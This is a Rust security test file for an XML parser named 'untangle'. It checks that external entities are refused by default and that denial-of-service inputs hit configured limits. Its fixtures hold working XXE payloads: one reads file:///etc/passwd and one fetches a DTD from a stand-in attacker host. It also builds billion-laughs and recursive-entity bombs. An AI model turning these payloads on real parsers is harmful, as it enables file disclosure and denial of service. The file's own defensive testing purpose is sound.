//! Security-focused tests for untangle.
//!
//! These tests verify that the parser refuses external entities unless told
//! otherwise, and rejects pathological inputs that could cause denial of
//! service (`DoS`) via excessive resource consumption.

#![allow(clippy::unwrap_used)]

use std::fmt::Write;
use std::path::PathBuf;

use untangle::sax::{parse_sax_str, DefaultHandler};
use untangle::{parse, parse_file, parse_str, parse_with_features, Error, ParseOptions};

fn fixture(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/res").join(name)
}

fn parse_message(err: &Error) -> &str {
    &err.as_parse_error()
        .unwrap_or_else(|| panic!("expected a parse error, got {err}"))
        .message
}

// ---------------------------------------------------------------------------
// External entities
// ---------------------------------------------------------------------------

#[test]
fn test_xxe_general_entity_forbidden_by_default() {
    let xml = r#"<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<foo>&xxe;</foo>"#;
    match parse(xml).unwrap_err() {
        Error::ForbiddenEntity { name, system_id } => {
            assert_eq!(name, "xxe");
            assert_eq!(system_id, "file:///etc/passwd");
        }
        other => panic!("expected forbidden entity, got {other}"),
    }
}

#[test]
fn test_xxe_parameter_entity_forbidden_by_default() {
    let xml = r#"<!DOCTYPE foo [
  <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd">
  %remote;
]>
<foo/>"#;
    let err = parse(xml).unwrap_err();
    assert!(matches!(err, Error::ForbiddenEntity { ref name, .. } if name == "%remote"), "{err}");
}

#[test]
fn test_external_entity_declared_but_unused_is_fine() {
    let xml = r#"<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>ok</foo>"#;
    let o = parse(xml).unwrap();
    assert_eq!(o.child("foo").unwrap().text(), Some("ok"));
}

#[test]
fn test_external_dtd_not_loaded_by_default() {
    let xml = r#"<!DOCTYPE doc SYSTEM "entities.dtd"><doc>[&greeting;]</doc>"#;
    let o = parse(xml).unwrap();
    // The declaration lives in the unread subset, so the reference is skipped.
    assert_eq!(o.child("doc").unwrap().text(), Some("[]"));
}

#[test]
fn test_fixture_with_external_entities_forbidden_by_default() {
    let err = parse_file(fixture("with_dtd.xml"), &ParseOptions::default()).unwrap_err();
    assert!(
        matches!(err, Error::ForbiddenEntity { ref system_id, .. } if system_id == "chapter.ent"),
        "{err}"
    );
}

#[test]
fn test_external_entities_loaded_when_enabled() {
    let options = ParseOptions::default().external_general_entities(true);
    let o = parse_file(fixture("with_dtd.xml"), &options).unwrap();
    let doc = o.child("doc").unwrap();
    assert_eq!(doc.child("title").unwrap(), "hello from untangle");
    assert_eq!(
        doc.child("body").unwrap().text().map(str::trim),
        Some("external chapter text")
    );
}

#[test]
fn test_external_entities_enabled_by_feature_name() {
    let path = fixture("with_dtd.xml");
    let o = parse_with_features(path.to_str().unwrap(), [("feature_external_ges", true)]).unwrap();
    assert!(o.child("doc").unwrap().child("body").unwrap().exists());
}

#[test]
fn test_external_entity_in_attribute_rejected() {
    let options = ParseOptions::default().external_general_entities(true);
    let xml = r#"<!DOCTYPE a [<!ENTITY e SYSTEM "chapter.ent">]><a x="&e;"/>"#;
    let err = parse_str(xml, &options).unwrap_err();
    assert!(parse_message(&err).contains("attribute value"), "{err}");
}

#[test]
fn test_unknown_feature_rejected_before_parsing() {
    let err = parse_with_features("<unclosed>", [("feature_nope", true)]).unwrap_err();
    assert!(matches!(err, Error::UnknownFeature(_)));
}

#[test]
fn test_validation_feature_unsupported() {
    let err = parse_with_features("<a/>", [("feature_validation", true)]).unwrap_err();
    assert!(matches!(err, Error::UnsupportedFeature { .. }));
}

// ---------------------------------------------------------------------------
// Entity expansion limits
// ---------------------------------------------------------------------------

#[test]
fn test_billion_laughs_rejected() {
    let mut xml = String::from("<!DOCTYPE lolz [\n<!ENTITY lol0 \"lol\">\n");
    for i in 1..10 {
        let refs = format!("&lol{};", i - 1).repeat(10);
        writeln!(xml, "<!ENTITY lol{i} \"{refs}\">").unwrap();
    }
    xml.push_str("]>\n<lolz>&lol9;</lolz>");

    let err = parse(&xml).unwrap_err();
    let message = parse_message(&err);
    assert!(
        message.contains("expansion limit") || message.contains("maximum length"),
        "{message}"
    );
}

#[test]
fn test_entity_expansion_limit_configurable() {
    let xml = r#"<!DOCTYPE a [<!ENTITY e "x">]><a>&e;&e;&e;&e;&e;</a>"#;
    assert!(parse_str(xml, &ParseOptions::default()).is_ok());
    let opts = ParseOptions::default().max_entity_expansions(4);
    let err = parse_str(xml, &opts).unwrap_err();
    assert!(parse_message(&err).contains("expansion limit"));
}

#[test]
fn test_recursive_entity_rejected() {
    let xml = r#"<!DOCTYPE a [<!ENTITY x "&y;"><!ENTITY y "&x;">]><a>&x;</a>"#;
    let err = parse(xml).unwrap_err();
    assert!(parse_message(&err).contains("references itself"));
}

// ---------------------------------------------------------------------------
// Structural limits
// ---------------------------------------------------------------------------

#[test]
fn test_deeply_nested_elements_rejected() {
    let open_tags: String = (0..300).map(|_| "<a>").collect();
    let close_tags: String = (0..300).map(|_| "</a>").collect();
    let xml = format!("{open_tags}{close_tags}");
    let err = parse(&xml).unwrap_err();
    assert!(parse_message(&err).contains("depth"));
}

#[test]
fn test_depth_limit_exact_boundary() {
    let open: String = (0..3).map(|_| "<a>").collect();
    let close: String = (0..3).map(|_| "</a>").collect();
    let xml = format!("{open}{close}");

    let opts = ParseOptions::default().max_depth(3);
    assert!(parse_str(&xml, &opts).is_ok(), "depth exactly at limit should succeed");
    let opts = ParseOptions::default().max_depth(2);
    assert!(parse_str(&xml, &opts).is_err(), "depth one over limit should fail");
}

#[test]
fn test_too_many_attributes_rejected() {
    let mut xml = String::from("<a");
    for i in 0..10 {
        write!(xml, " a{i}=\"v\"").unwrap();
    }
    xml.push_str("/>");
    assert!(parse(&xml).is_ok());
    let opts = ParseOptions::default().max_attributes(5);
    let err = parse_str(&xml, &opts).unwrap_err();
    assert!(parse_message(&err).contains("attributes"));
}

#[test]
fn test_huge_element_name_rejected() {
    let name = "a".repeat(100);
    let xml = format!("<{name}/>");
    let opts = ParseOptions::default().max_name_length(50);
    let err = parse_str(&xml, &opts).unwrap_err();
    assert!(parse_message(&err).contains("name"));
}

#[test]
fn test_long_attribute_value_rejected() {
    let xml = format!("<a v=\"{}\"/>", "x".repeat(200));
    let opts = ParseOptions::default().max_attribute_length(100);
    let err = parse_str(&xml, &opts).unwrap_err();
    assert!(parse_message(&err).contains("maximum length"));
}

#[test]
fn test_sax_depth_limit() {
    let xml = "<a><b><c><d/></c></b></a>";
    let opts = ParseOptions::default().max_depth(3);
    assert!(parse_sax_str(xml, &opts, &mut DefaultHandler).is_err());
    let opts = ParseOptions::default().max_depth(4);
    assert!(parse_sax_str(xml, &opts, &mut DefaultHandler).is_ok());
}

// ---------------------------------------------------------------------------
// Default limits are permissive enough for normal documents
// ---------------------------------------------------------------------------

#[test]
fn test_default_limits_allow_normal_documents() {
    let mut xml = String::from("<catalog>");
    for i in 0..500 {
        write!(
            xml,
            "<book id=\"b{i}\" lang=\"en\"><title>Book {i}</title><price>{i}.99</price></book>"
        )
        .unwrap();
    }
    xml.push_str("</catalog>");
    let o = parse(&xml).unwrap();
    assert_eq!(o.child("catalog").unwrap().child("book").unwrap().len(), 500);
}
